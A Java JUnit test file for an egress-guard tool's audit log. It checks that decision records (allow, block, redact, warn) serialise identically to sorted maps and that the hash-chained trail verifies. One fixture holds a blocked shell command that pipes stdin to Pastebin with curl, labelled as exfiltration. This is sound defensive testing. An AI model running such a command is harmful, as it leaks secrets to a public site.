package dev.egressguard.engine.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.egressguard.config.PatternType;
import dev.egressguard.config.RiskLevel;
import dev.egressguard.config.RuleKind;
import dev.egressguard.engine.Action;
import dev.egressguard.engine.decision.Decision;
import dev.egressguard.engine.decision.Target;
import dev.egressguard.engine.inspect.Detection;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The decision record written straight from the Decision is, byte for byte, the generic sorted-map serialisation. */
class DecisionRecordTest {
    private static final String PREV = "5f".repeat(32);
    private static final String HASH = "0a".repeat(32);
    private static final long TIME = 1_795_000_000_123L;

    @TempDir
    Path dir;

    /** Every shape a decision record takes: allow, block, redact, warn, monitor, commands, warnings, odd strings. */
    static List<Decision> decisions() {
        List<Decision> all = new ArrayList<>();
        all.add(TestDecisions.allow(1));
        all.add(TestDecisions.blockSsn(2));

        Decision.Builder redact = TestDecisions.base(TestDecisions.OPENAI, "/v1/chat/completions?key=[REDACTED]");
        redact.action = Action.REDACT;
        redact.reason = "API_KEY, EMAIL detected in request body to OpenAI API (high risk)";
        redact.rule = "redact credentials to ai";
        redact.riskScore = 42.123456;
        redact.detections = List.of(
                new Detection(PatternType.API_KEY, 10, 50, 0.87654, "body", "plain", "aws", "v1", true, null),
                new Detection(PatternType.API_KEY, 60, 100, 0.99, "body", "base64", null, "v2", false, null),
                new Detection(PatternType.EMAIL, 5, 20, 0.8, "url.query", "percent", null, "v3", false, null),
                new Detection(PatternType.API_KEY, 110, 150, 0.5, "body", "plain", null, "v4", false, null),
                new Detection(PatternType.SSN, 0, 11, 0.95, "header:X-Note", "plain", null, "v5", false, null));
        redact.sanitizedBody = "{\"k\":\"[REDACTED]\"}".getBytes(StandardCharsets.UTF_8);
        redact.content = "content with a key".getBytes(StandardCharsets.UTF_8);
        redact.contentBytes = 4096;
        all.add(redact.build());

        Decision.Builder monitor = TestDecisions.base(TestDecisions.PASTEBIN, "/api/api_post.php");
        monitor.action = Action.WARN;
        monitor.enforced = false;
        monitor.reason = "monitor mode";
        monitor.riskScore = 72.5;
        monitor.detections = List.of(TestDecisions.detection(PatternType.CREDIT_CARD, 3, 19));
        monitor.warnings = List.of("body not inspected: one-shot publisher", "second \"warning\"");
        monitor.content = new byte[] {1, 2, 3};
        monitor.contentBytes = 3;
        all.add(monitor.build());

        Decision.Builder command = new Decision.Builder();
        command.kind = RuleKind.SHELL_EXEC;
        command.channel = "process";
        command.command = "curl -d @- https://pastebin.com/api/api_post.php";
        command.target = new Target("https://pastebin.com/api/api_post.php", "pastebin.com", TestDecisions.PASTEBIN,
                RiskLevel.CRITICAL, false);
        command.action = Action.BLOCK;
        command.reason = "uploads stdin to an exfiltration site";
        command.riskScore = 100;
        command.warnings = List.of("stdin payload not inspected");
        all.add(command.build());

        Decision.Builder bare = new Decision.Builder();
        bare.kind = null;
        bare.channel = "cli";
        bare.command = "";
        bare.action = Action.BLOCK;
        bare.reason = "policy not loaded";
        all.add(bare.build());

        // escapes, control characters and non-ASCII on both sides of where the hash goes
        Decision.Builder odd = new Decision.Builder();
        odd.channel = "jdk-httpclient \u00e9";
        odd.method = "POST";
        odd.target = new Target("https://h\u00f4te.example/p?q=\"x\"\\y\u0001\n\t\u2028\ud83d\ude00", "h\u00f4te.example",
                null, null, false);
        odd.reason = "internal\u0000host\r\b\f \u00fc";
        odd.riskScore = 0.95;
        odd.micros = 123_456_789L;
        all.add(odd.build());
        return all;
    }

    @Test
    void writesTheBytesOfTheSortedMapForEveryShapeOfDecision() {
        int n = 0;
        for (Decision d : decisions()) {
            for (String incident : new String[] {null, "inc_0123456789abcdef"}) {
                Map<String, Object> generic = DecisionRecords.decision(d, "agent-\u00e9", 4242, TIME, incident);
                generic.put("seq", 17L);
                generic.put("prevHash", PREV);
                StringBuilder expected = new StringBuilder();
                int expectedAt = Json.writeWithout(generic, "hash", expected);

                DecisionRecord direct = new DecisionRecord(d, "agent-\u00e9", 4242, TIME, incident);
                StringBuilder actual = new StringBuilder();
                int at = direct.writeWithoutHash(17, PREV, actual);

                assertEquals(expected.toString(), actual.toString(), "decision " + n);
                assertEquals(expectedAt, at, "where the hash goes, decision " + n);

                // read as a map (sinks, exports) it is the generic record, sealed
                direct.sealed(17, PREV, HASH);
                generic.put("hash", HASH);
                assertEquals(generic, new TreeMap<>(direct), "map view, decision " + n);
                assertEquals(Json.write(generic), Json.write(direct));
                n++;
            }
        }
        assertEquals(14, n);
    }

    @Test
    void aTrailOfDirectRecordsIsByteForByteTheTrailOfMapRecords() throws Exception {
        for (String key : new String[] {null, "a-key"}) {
            Path viaMaps = dir.resolve("maps-" + key + ".jsonl");
            Path direct = dir.resolve("direct-" + key + ".jsonl");
            AuditLog a = AuditLog.open(viaMaps, key, 100L << 20, "t");
            AuditLog b = AuditLog.open(direct, key, 100L << 20, "t");
            List<Map<String, Object>> maps = new ArrayList<>();
            List<Map<String, Object>> records = new ArrayList<>();
            // an ordinary map record among them, sealed the generic way in both trails
            maps.add(DecisionRecords.header("agent.start", TIME, "t", 1));
            records.add(DecisionRecords.header("agent.start", TIME, "t", 1));
            for (Decision d : decisions()) {
                maps.add(DecisionRecords.decision(d, "t", 1, TIME, "inc_0123456789abcdef"));
                records.add(new DecisionRecord(d, "t", 1, TIME, "inc_0123456789abcdef"));
            }
            a.append(maps);
            b.append(records);
            a.close();
            b.close();
            for (int i = 0; i < maps.size(); i++) {
                assertEquals(maps.get(i), new TreeMap<>(records.get(i)), "record " + i + " as sealed");
            }
            assertEquals(Files.readString(viaMaps), Files.readString(direct));
            String verdict = AuditVerifier.verify(direct, key).headline();
            assertTrue(verdict.startsWith("intact"), verdict);
        }
    }
}
